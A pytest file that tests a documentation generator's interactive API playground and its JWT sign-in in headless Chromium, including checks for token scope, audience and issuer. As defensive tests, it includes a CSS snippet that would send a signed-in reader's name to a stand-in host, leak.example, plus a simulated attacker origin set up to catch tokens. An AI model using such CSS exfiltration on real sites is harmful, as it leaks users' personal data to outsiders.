"""The playground in headless Chromium against a real API on 127.0.0.1 (issue 4, item 8).

Each site is built and served by a real ``docgen serve`` process (``--allow-local``: the test
API is on loopback); requests go through its proxy, or straight to the API with ``proxy: false``
(the API sends CORS headers). Sign-in tokens are signed here with a key made for the run.
"""

from __future__ import annotations

import base64
import html
import json
import re
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from serving import docgen_serve
from upstream import Upstream, png, running_upstream, wav

SPEC = """\
openapi: 3.1.0
info: {{title: Test API, version: "1"}}
servers:
  - url: {upstream}
security:
  - bearer: []
tags:
  - name: Items
  - name: Media
paths:
  /items/{{itemId}}:
    post:
      tags: [Items]
      summary: Update item
      parameters:
        - name: itemId
          in: path
          required: true
          schema: {{type: integer, minimum: 1, maximum: 1000}}
          example: 42
        - {{name: verbose, in: query, schema: {{type: boolean}}}}
        - {{name: sort, in: query, schema: {{type: string, enum: [asc, desc]}}}}
      requestBody:
        required: true
        content:
          application/json:
            schema:
              type: object
              properties: {{name: {{type: string}}}}
            example: {{name: Widget}}
      responses:
        "201": {{description: Updated}}
  /media/image.png:
    get:
      tags: [Media]
      summary: Get image
      responses: {{"200": {{description: A PNG}}}}
  /media/sound.wav:
    get:
      tags: [Media]
      summary: Get sound
      responses: {{"200": {{description: A WAV}}}}
  /media/clip.webm:
    get:
      tags: [Media]
      summary: Get clip
      responses: {{"200": {{description: A WebM}}}}
  /text:
    get:
      tags: [Media]
      summary: Get text
      responses: {{"200": {{description: Text}}}}
components:
  securitySchemes:
    bearer: {{type: http, scheme: bearer}}
"""
ITEM = "/api/items/update-item/"
TOKEN = "secret-token-123"
RECORD_WEBM = """async () => {
  const c = document.createElement('canvas'); c.width = 64; c.height = 48;
  document.body.append(c);
  const g = c.getContext('2d');
  const rec = new MediaRecorder(c.captureStream(10), {mimeType: 'video/webm;codecs=vp8'});
  const chunks = []; rec.ondataavailable = (e) => chunks.push(e.data);
  rec.start();
  for (let i = 0; i < 8; i++) {
    g.fillStyle = `hsl(${i * 45}, 80%, 50%)`; g.fillRect(0, 0, 64, 48);
    await new Promise((r) => setTimeout(r, 60));
  }
  rec.stop(); await new Promise((r) => { rec.onstop = r; });
  const bytes = new Uint8Array(await new Blob(chunks).arrayBuffer());
  let s = ''; bytes.forEach((b) => { s += String.fromCharCode(b); }); return btoa(s);
}"""


@pytest.fixture(scope="module")
def upstream(browser: Any) -> Iterator[Upstream]:
    """The API, serving JSON echoes, text, and a real PNG, WAV and WebM (recorded by Chromium)."""
    page = browser.new_page()
    webm = base64.b64decode(page.evaluate(RECORD_WEBM))
    page.close()
    with running_upstream() as api:
        api.media = {
            "/media/image.png": ("image/png", png()),
            "/media/sound.wav": ("audio/wav", wav()),
            "/media/clip.webm": ("video/webm", webm),
        }
        yield api


@pytest.fixture(scope="module")
def key() -> ec.EllipticCurvePrivateKey:
    return ec.generate_private_key(ec.SECP256R1())


def _pem(key: ec.EllipticCurvePrivateKey) -> str:
    return (
        key.public_key()
        .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
        .decode()
    )


@contextmanager
def _site(
    root: Path, upstream: Upstream, playground: dict[str, Any], **extra: Any
) -> Iterator[str]:
    root.mkdir(parents=True, exist_ok=True)
    (root / "openapi.yaml").write_text(SPEC.format(upstream=upstream.url))
    pages: dict[str, str] = extra.pop("pages", {})
    for name, text in pages.items():
        (root / name).write_text(text)
    navigation: dict[str, Any] = {"openapi": {"source": "openapi.yaml", "directory": "api"}}
    if pages:  # explicit mode: the page files plus the listed operations
        listed = [name.removesuffix(".md") for name in pages] + extra.pop("operations", [])
        navigation["groups"] = [{"group": "Docs", "pages": listed}]
    config = {"name": "Playground", "api": {"playground": playground}, "navigation": navigation}
    config.update(extra)
    (root / "docs.json").write_text(json.dumps(config))
    process, url = docgen_serve(root / "docs.json", "--no-watch", "--allow-local")
    try:
        yield url
    finally:
        process.stop()


@pytest.fixture(scope="module")
def proxied(tmp_path_factory: pytest.TempPathFactory, upstream: Upstream) -> Iterator[str]:
    with _site(tmp_path_factory.mktemp("proxied"), upstream, {"display": "interactive"}) as url:
        yield url



def _open_playground(page: Any, url: str) -> None:
    page.goto(url)
    page.click("[data-docgen-try]")
    page.wait_for_selector("[data-docgen-playground-panel]:not([hidden])")


def _send(page: Any) -> str:
    page.click("[data-pg-send]")
    page.wait_for_selector("[data-pg-response] [data-pg-status], [data-pg-message]")
    return str(page.get_attribute("[data-pg-response]", "data-state"))


def _fill_item(page: Any, item_id: str = "42") -> None:
    page.fill('[data-param="path:itemId"]', item_id)
    page.select_option('[data-param="query:verbose"]', "true")
    page.fill('[data-auth="bearer"]', TOKEN)
    page.fill("[data-pg-body]", '{"name": "Gadget", "size": 3}')


def test_send_through_the_proxy_renders_pretty_json(
    page: Any, proxied: str, upstream: Upstream
) -> None:
    _open_playground(page, proxied + ITEM)
    _fill_item(page)
    before = len(upstream.api_requests())
    assert _send(page) == "ok"
    assert page.get_attribute("[data-pg-status]", "data-pg-status") == "201"
    assert page.get_attribute("[data-pg-status]", "data-status-class") == "2xx"
    assert int(page.get_attribute("[data-pg-time]", "data-pg-time") or -1) >= 0
    text = page.text_content("[data-pg-response-text]") or ""
    assert '\n  "method": "POST",' in text  # pretty-printed JSON
    assert json.loads(text)["body"] == {"name": "Gadget", "size": 3}
    assert page.locator('tr[data-header="x-upstream"]').count() == 1
    seen = upstream.api_requests()[before:]
    assert len(seen) == 1
    request = seen[0]
    assert (request.method, request.path) == ("POST", "/items/42")
    assert request.query == {"verbose": ["true"]}
    assert request.headers["authorization"] == f"Bearer {TOKEN}"
    assert "origin" not in request.headers  # sent by the docs server, not by the browser


def test_send_directly_when_the_proxy_is_off(page: Any, tmp_path: Path, upstream: Upstream) -> None:
    with _site(tmp_path, upstream, {"proxy": False}) as url:
        _open_playground(page, url + ITEM)
        _fill_item(page, "7")
        before = len(upstream.api_requests())
        assert _send(page) == "ok"
        seen = upstream.api_requests()[before:]
        assert [s.path for s in seen] == ["/items/7"]
        assert seen[0].headers.get("origin") == url  # the browser called the API itself
        assert "cookie" not in seen[0].headers  # credentials: "omit"
        text = page.text_content("[data-pg-response-text]") or ""
        assert json.loads(text)["authorization"] == f"Bearer {TOKEN}"


def test_bounds_are_checked_before_sending(page: Any, proxied: str, upstream: Upstream) -> None:
    _open_playground(page, proxied + ITEM)
    _fill_item(page, "0")  # minimum is 1
    before = len(upstream.api_requests())
    page.click("[data-pg-send]")
    error = page.locator('[data-error-for="path:itemId"]')
    error.wait_for(state="visible")
    assert "1" in (error.text_content() or "")
    assert page.get_attribute('[data-param="path:itemId"]', "aria-invalid") == "true"
    page.fill("[data-pg-body]", "{not json")
    page.fill('[data-param="path:itemId"]', "5")
    page.click("[data-pg-send]")
    page.locator("[data-pg-body-error]").wait_for(state="visible")
    time.sleep(0.3)
    assert len(upstream.api_requests()) == before  # nothing was sent


def test_copy_as_curl_reflects_the_values_entered(page: Any, proxied: str) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=proxied)
    _open_playground(page, proxied + ITEM)
    _fill_item(page, "99")
    page.click("[data-pg-curl]")
    page.wait_for_selector("[data-pg-curl].copied")
    curl = page.evaluate("navigator.clipboard.readText()")
    assert "-X POST" in curl or "--request POST" in curl
    assert "/items/99?verbose=true" in curl
    assert f"Authorization: Bearer {TOKEN}" in curl
    assert '{"name": "Gadget", "size": 3}' in curl


@pytest.mark.parametrize(
    ("slug", "tag", "check"),
    [
        ("get-image", "img", "el => el.complete && el.naturalWidth === 8"),
        ("get-sound", "audio", "el => el.readyState >= 1 && el.duration > 0.4"),
        ("get-clip", "video", "el => el.readyState >= 1 && el.videoWidth === 64"),
    ],
)
def test_media_responses_play_inline(
    page: Any, proxied: str, slug: str, tag: str, check: str
) -> None:
    _open_playground(page, f"{proxied}/api/media/{slug}/")
    page.fill('[data-auth="bearer"]', TOKEN)
    assert _send(page) == "ok"
    media = page.locator(f"{tag}[data-pg-media]")
    media.wait_for()
    assert (media.get_attribute("src") or "").startswith(("blob:", "data:"))
    # a function, not an expression: an expression is polled with eval, which the site's
    # Content-Security-Policy (docgen serve) refuses
    page.wait_for_function(f"() => ({check})(document.querySelector('{tag}[data-pg-media]'))")


def test_text_responses_are_escaped(page: Any, proxied: str) -> None:
    _open_playground(page, f"{proxied}/api/media/get-text/")
    page.fill('[data-auth="bearer"]', TOKEN)
    assert _send(page) == "ok"
    body = page.locator("[data-pg-response-text]")
    assert body.text_content() == "<b>not bold</b>"
    assert page.locator("[data-pg-response-body] b").count() == 0


def test_simple_and_none_modes(page: Any, tmp_path: Path, upstream: Upstream) -> None:
    with _site(tmp_path / "simple", upstream, {"display": "simple"}) as url:
        page.goto(url + ITEM)
        box = page.locator(".request-url")
        assert box.is_visible()
        assert box.locator("code").text_content() == upstream.url + "/items/{itemId}"
        assert box.locator(".method").text_content().strip() == "POST"  # type: ignore[union-attr]
        assert page.locator("[data-docgen-try]").count() == 0
        assert page.locator("[data-pg-send]").count() == 0
    with _site(tmp_path / "none", upstream, {"display": "none"}) as url:
        page.goto(url + ITEM)
        page.wait_for_load_state("load")
        assert page.locator("[data-docgen-try], .request-url, [data-pg-send]").count() == 0
        assert page.locator("script[src*=playground]").count() == 0


# -- auth mode -----------------------------------------------------------------------------


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _token(key: ec.EllipticCurvePrivateKey, **claims: Any) -> str:
    claims.setdefault("sub", "ada")
    claims.setdefault("exp", int(time.time()) + 600)
    claims = {name: value for name, value in claims.items() if value is not None}
    head = _b64(json.dumps({"alg": "ES256", "typ": "JWT"}).encode())
    body = _b64(json.dumps(claims).encode())
    der = key.sign(f"{head}.{body}".encode(), ec.ECDSA(hashes.SHA256()))
    r, s = decode_dss_signature(der)
    return f"{head}.{body}.{_b64(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


ADMIN_PAGE = "---\nopenapi: POST /items/{itemId}\ngroups: [admins]\n---\nAdministrators only.\n"


@pytest.fixture(scope="module")
def auth_site(
    tmp_path_factory: pytest.TempPathFactory, upstream: Upstream, key: ec.EllipticCurvePrivateKey
) -> Iterator[str]:
    auth = {"type": "jwt", "loginUrl": "https://login.example.com/sso", "publicKey": _pem(key)}
    with _site(
        tmp_path_factory.mktemp("auth"),
        upstream,
        {"display": "auth"},
        auth=auth,
        pages={"admin.md": ADMIN_PAGE},
        operations=["GET /media/image.png"],
    ) as url:
        yield url


def _sign_in(page: Any, site: str, token: str) -> str:
    page.goto(f"{site}/_docgen/auth/callback/#token={token}")
    status = page.locator("[data-docgen-callback-status]")
    # Polled from here: a string predicate polled in the page is an eval, which the site's
    # Content-Security-Policy (docgen serve) refuses once it has to poll.
    for _ in range(300):
        if "callback" not in page.url or status.get_attribute("data-status") != "pending":
            break
        page.wait_for_timeout(50)
    if "callback" in page.url:
        return (
            str(status.get_attribute("data-status"))
            + ":"
            + str(status.get_attribute("data-reason"))
        )
    return "ok"


def _has_playground(page: Any, url: str) -> bool:
    page.goto(url)
    page.wait_for_load_state("load")
    # auth mode settles on a state once the session is known and, when signed in, the data
    # fetched (or refused by the server).
    if page.locator("[data-docgen-playground]").count():
        page.wait_for_selector(
            "[data-docgen-playground][data-docgen-auth-state]"
            ':not([data-docgen-auth-state="loading"]):not([data-docgen-auth-state=""])',
            state="attached",
        )
    return bool(page.locator("[data-docgen-try]").count())


def test_auth_mode_hides_the_playground_from_anonymous_readers(page: Any, auth_site: str) -> None:
    assert not _has_playground(page, auth_site + "/admin/")
    assert not _has_playground(page, auth_site + "/api/media/get-image/")
    assert page.locator(".request-url, [data-pg-send], [data-docgen-playground-panel]").count() == 0
    assert page.get_attribute("[data-docgen-signin]", "data-state") == "signed-out"


def _playground_attribute(page: Any) -> dict[str, Any]:
    raw = page.get_attribute("[data-docgen-playground]", "data-docgen-playground")
    return dict(json.loads(raw))


def _fetch_data(site: str, page_url: str, token: str | None) -> tuple[int, dict[str, Any]]:
    """GET the page's playground data file from docgen serve, as a script or curl would."""
    html_text = urllib.request.urlopen(site + page_url).read().decode()
    found = re.search(r'data-docgen-playground="([^"]*)"', html_text)
    assert found is not None
    src = json.loads(html.unescape(found.group(1)))["src"]
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    request = urllib.request.Request(urllib.parse.urljoin(site + page_url, src), headers=headers)
    try:
        with urllib.request.urlopen(request) as answer:
            assert answer.headers["Cache-Control"] == "private, no-store"
            return answer.status, json.loads(answer.read())
    except urllib.error.HTTPError as refused:
        assert refused.headers["Cache-Control"] == "no-store"
        return refused.code, json.loads(refused.read())


def test_auth_mode_page_carries_no_playground_data(page: Any, auth_site: str) -> None:
    # A signed-out reader's HTML holds only where the data is, never the data (issue 18).
    page.goto(auth_site + "/admin/")
    stub = _playground_attribute(page)
    assert set(stub) == {"mode", "groups", "src"} and stub["groups"] == ["admins"]
    assert "/items" not in json.dumps(stub) and "proxyUrl" not in page.content()


def test_serve_hands_playground_data_to_accepted_tokens_only(
    auth_site: str, aud_site: str, key: ec.EllipticCurvePrivateKey
) -> None:
    admin, anyone = "/admin/", "/api/media/get-image/"
    assert _fetch_data(auth_site, admin, None)[0] == 401
    assert _fetch_data(auth_site, admin, "not-a-token")[0] == 401
    status, data = _fetch_data(auth_site, admin, _token(key, groups=["admins"]))
    assert status == 200 and data["method"] == "POST" and data["path"] == "/items/{itemId}"
    assert _fetch_data(auth_site, admin, _token(key, groups=["readers"]))[0] == 401
    assert _fetch_data(auth_site, anyone, _token(key, groups=["readers"]))[0] == 200
    expired = _token(key, exp=int(time.time()) - 600)
    assert _fetch_data(auth_site, anyone, expired)[0] == 401
    other_key = _token(ec.generate_private_key(ec.SECP256R1()), groups=["admins"])
    assert _fetch_data(auth_site, anyone, other_key)[0] == 401
    assert _fetch_data(auth_site, anyone, _token(key, exp=None))[0] == 401  # exp is required
    future = _token(key, iat=int(time.time()) + 3600)
    assert _fetch_data(auth_site, anyone, future)[0] == 401
    good = {"aud": "docs.example.com", "iss": "https://login.example.com"}
    assert _fetch_data(aud_site, anyone, _token(key, **good))[0] == 200
    other_service = {**good, "aud": "billing.example.com"}
    assert _fetch_data(aud_site, anyone, _token(key, **other_service))[0] == 401
    assert _fetch_data(aud_site, anyone, _token(key, **{**good, "iss": "https://evil"}))[0] == 401


def test_auth_mode_with_valid_token_and_groups(
    page: Any, auth_site: str, key: ec.EllipticCurvePrivateKey
) -> None:
    assert _sign_in(page, auth_site, _token(key, groups=["admins"])) in ("ok", "ok:None")
    assert "#token" not in page.url
    assert _has_playground(page, auth_site + "/admin/")
    assert _has_playground(page, auth_site + "/api/media/get-image/")  # no groups: any reader
    assert page.get_attribute("[data-docgen-signin]", "data-state") == "signed-in"


def test_auth_mode_sends_the_token_to_the_site_only(
    page: Any, auth_site: str, key: ec.EllipticCurvePrivateKey
) -> None:
    # A page whose playground attribute named another origin (docgen drops such attributes from
    # content; this is the script's own guard) must not hand it the reader's token. The other
    # origin is answered by the browser's router (Chromium keeps pages from loopback servers),
    # with CORS wide open, as an attacker's server would.
    elsewhere = "https://elsewhere.example/data.json"
    seen: list[str] = []

    def other_src(route: Any) -> None:
        answer = route.fetch()
        found = r"(&#34;src&#34;: ?&#34;)[^&]*"
        body = re.sub(found, lambda m: m.group(1) + elsewhere, answer.text())
        route.fulfill(response=answer, body=body)

    def other_origin(route: Any) -> None:
        seen.append(route.request.headers.get("authorization", ""))
        cors = {"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*"}
        route.fulfill(status=200, headers=cors, content_type="application/json", body="{}")

    assert _sign_in(page, auth_site, _token(key, groups=["admins"])) in ("ok", "ok:None")
    page.route("**/admin/", other_src)
    page.route("https://elsewhere.example/**", other_origin)
    assert not _has_playground(page, auth_site + "/admin/")
    layout = "[data-docgen-playground]"
    assert elsewhere in str(page.get_attribute(layout, "data-docgen-playground"))
    assert page.get_attribute(layout, "data-docgen-auth-state") == "refused"
    assert seen == []


# A pull request's style sheet that reads the signed-in reader's name from attributes (or a
# Tailwind arbitrary variant doing the same) and sends each match to another site.
LEAK_CSS = """
[data-docgen-signin][data-user*="ada"] { background-image: url(https://leak.example/user) }
[data-docgen-signin][title*="ada"] { border-image: url(https://leak.example/title) 1 }
"""


def test_the_readers_name_is_in_no_attribute_a_style_sheet_could_read(
    page: Any, tmp_path: Path, upstream: Upstream, key: ec.EllipticCurvePrivateKey
) -> None:
    """CSS attribute selectors match attributes, never text: the signed-in reader's name is
    shown as text only, so the docs repo's CSS cannot send it to another site."""
    root = tmp_path / "leak"
    root.mkdir()
    (root / "style.css").write_text(LEAK_CSS)
    auth = {"type": "jwt", "loginUrl": "https://login.example.com/sso", "publicKey": _pem(key)}
    leaked: list[str] = []

    def record(route: Any) -> None:
        leaked.append(route.request.url)
        route.fulfill(status=204, body="")

    page.route("https://leak.example/**", record)
    with _site(root, upstream, {"display": "auth"}, auth=auth) as url:
        name = "ada.lovelace@example.com"
        assert _sign_in(page, url, _token(key, sub="u1", email=name)) in ("ok", "ok:None")
        page.goto(url + "/")
        page.wait_for_selector("[data-docgen-signin][data-state=signed-in]")
        assert "ada.lovelace" in page.inner_text("[data-docgen-signin]")
        attributes = page.evaluate(
            "Array.from(document.querySelectorAll('*')).flatMap("
            "e => Array.from(e.attributes, a => a.value))"
        )
        assert not [value for value in attributes if "ada" in value]
        page.wait_for_load_state("networkidle")
    assert leaked == []


def test_auth_mode_wrong_group_sees_only_pages_without_groups(
    page: Any, auth_site: str, key: ec.EllipticCurvePrivateKey
) -> None:
    _sign_in(page, auth_site, _token(key, groups=["readers"]))
    assert not _has_playground(page, auth_site + "/admin/")
    assert _has_playground(page, auth_site + "/api/media/get-image/")


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (lambda key: _token(key, exp=int(time.time()) - 600), "expired"),
        (lambda key: _token(key, iat=int(time.time()) + 3600), "not-yet-valid"),
        (
            lambda key: _token(ec.generate_private_key(ec.SECP256R1()), groups=["admins"]),
            "bad-signature",
        ),
    ],
    ids=["expired", "issued-in-the-future", "wrong-signature"],
)
def test_auth_mode_rejects_bad_tokens(
    page: Any,
    auth_site: str,
    key: ec.EllipticCurvePrivateKey,
    make: Callable[[ec.EllipticCurvePrivateKey], str],
    reason: str,
) -> None:
    assert _sign_in(page, auth_site, make(key)) == f"error:{reason}"
    assert "token=" not in page.url
    assert not _has_playground(page, auth_site + "/admin/")
    assert not _has_playground(page, auth_site + "/api/media/get-image/")


@pytest.fixture(scope="module")
def aud_site(
    tmp_path_factory: pytest.TempPathFactory, upstream: Upstream, key: ec.EllipticCurvePrivateKey
) -> Iterator[str]:
    auth = {
        "type": "jwt",
        "loginUrl": "https://login.example.com/sso",
        "publicKey": _pem(key),
        "audience": "docs.example.com",
        "issuer": "https://login.example.com",
    }
    with _site(
        tmp_path_factory.mktemp("aud"),
        upstream,
        {"display": "auth"},
        auth=auth,
        pages={"admin.md": ADMIN_PAGE},
        operations=["GET /media/image.png"],
    ) as url:
        yield url


@pytest.mark.parametrize(
    ("claims", "outcome"),
    [
        ({"aud": "billing.example.com", "iss": "https://login.example.com"}, "error:wrong-audience"),  # noqa: E501
        ({"iss": "https://login.example.com"}, "error:wrong-audience"),
        ({"aud": "docs.example.com", "iss": "https://evil.example"}, "error:wrong-issuer"),
        ({"aud": ["x", "docs.example.com"], "iss": "https://login.example.com"}, "ok"),
    ],
    ids=["other-service", "no-aud", "other-issuer", "aud-list"],
)
def test_auth_mode_checks_audience_and_issuer(
    page: Any,
    aud_site: str,
    key: ec.EllipticCurvePrivateKey,
    claims: dict[str, Any],
    outcome: str,
) -> None:
    # A token for another service signed by the same key is refused (issue 18).
    result = _sign_in(page, aud_site, _token(key, **claims))
    assert result.replace("ok:None", "ok") == outcome
    assert _has_playground(page, aud_site + "/api/media/get-image/") == (outcome == "ok")


TWO_ORIGINS = """\
openapi: 3.1.0
info: {{title: Two origins, version: "1"}}
servers:
  - url: http://127.0.0.1:{port}
  - url: http://localhost:{port}
security:
  - bearer: []
paths:
  /a:
    get:
      summary: Here
      responses: {{"200": {{description: ok}}}}
  /b:
    get:
      summary: Elsewhere
      servers:
        - url: http://elsewhere.localhost:{port}
      responses: {{"200": {{description: ok}}}}
components:
  securitySchemes:
    bearer: {{type: http, scheme: bearer}}
"""


def test_remembered_credentials_stay_with_their_api_origin(
    page: Any, tmp_path: Path, upstream: Upstream
) -> None:
    """A key remembered for one API filled the same scheme's field for any server: another
    spec, an operation's own ``servers`` (content a pull request adds) or the server select
    sent it to another origin on the next Send. It now fills only requests to its origin."""
    port = urllib.parse.urlsplit(upstream.url).port
    (tmp_path / "openapi.yaml").write_text(TWO_ORIGINS.format(port=port))
    config = {
        "name": "Two",
        "navigation": {"openapi": {"source": "openapi.yaml", "directory": "api"}},
    }
    (tmp_path / "docs.json").write_text(json.dumps(config))
    process, url = docgen_serve(tmp_path / "docs.json", "--no-watch", "--allow-local")
    try:
        _open_playground(page, url + "/api/here/")
        page.check("[data-pg-remember]")
        page.fill('[data-auth="bearer"]', TOKEN)
        page.select_option("[data-pg-server]", "1")  # http://localhost: another origin
        assert page.input_value('[data-auth="bearer"]') == ""
        page.select_option("[data-pg-server]", "0")
        assert page.input_value('[data-auth="bearer"]') == TOKEN
        _open_playground(page, url + "/api/elsewhere/")
        assert page.input_value('[data-auth="bearer"]') == ""
        _open_playground(page, url + "/api/here/")
        assert page.input_value('[data-auth="bearer"]') == TOKEN  # still remembered there
    finally:
        process.stop()
